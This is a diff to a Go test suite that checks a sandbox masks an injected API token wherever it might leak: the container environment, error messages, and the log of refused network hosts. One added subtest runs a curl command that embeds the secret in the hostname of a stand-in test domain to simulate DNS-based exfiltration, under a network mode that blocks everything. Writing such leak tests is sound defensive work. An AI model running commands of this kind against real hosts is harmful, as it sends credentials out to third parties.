@@ -17,6 +17,7 @@ func TestSecretsAreMaskedOnEveryWayOut(t *testing.T) {
 	b := setup(t)
 	spec := b.spec()
 	spec.Secrets = map[string]string{"API_TOKEN": secretValue}
+	spec.Network = sandbox.Network{Mode: sandbox.NetworkFiltered} // nothing allowed
 	s := b.start(t, spec)
 	ctx := context.Background()
 
@@ -96,6 +97,14 @@ func TestSecretsAreMaskedOnEveryWayOut(t *testing.T) {
 		if env := strings.Join(info.Config.Env, "\n"); strings.Contains(env, secretValue) || strings.Contains(env, "API_TOKEN") {
 			t.Fatalf("the secret is in the container's environment:\n%s", env)
 		}
+	})
+	t.Run("in the name of a refused host", func(t *testing.T) {
+		exec(t, "implement", `curl -s --max-time 10 "http://$API_TOKEN.example.test/" || true`, "API_TOKEN")
+		var hosts []string
+		for _, r := range s.Refusals() {
+			hosts = append(hosts, r.Host)
+		}
+		assertMasked(t, "refusals", []byte(strings.Join(hosts, " ")))
 	})
 	t.Run("masked in error messages", func(t *testing.T) {
 		_, err := s.Exec(ctx, sandbox.Command{Args: []string{"/sandbox/" + secretValue}})
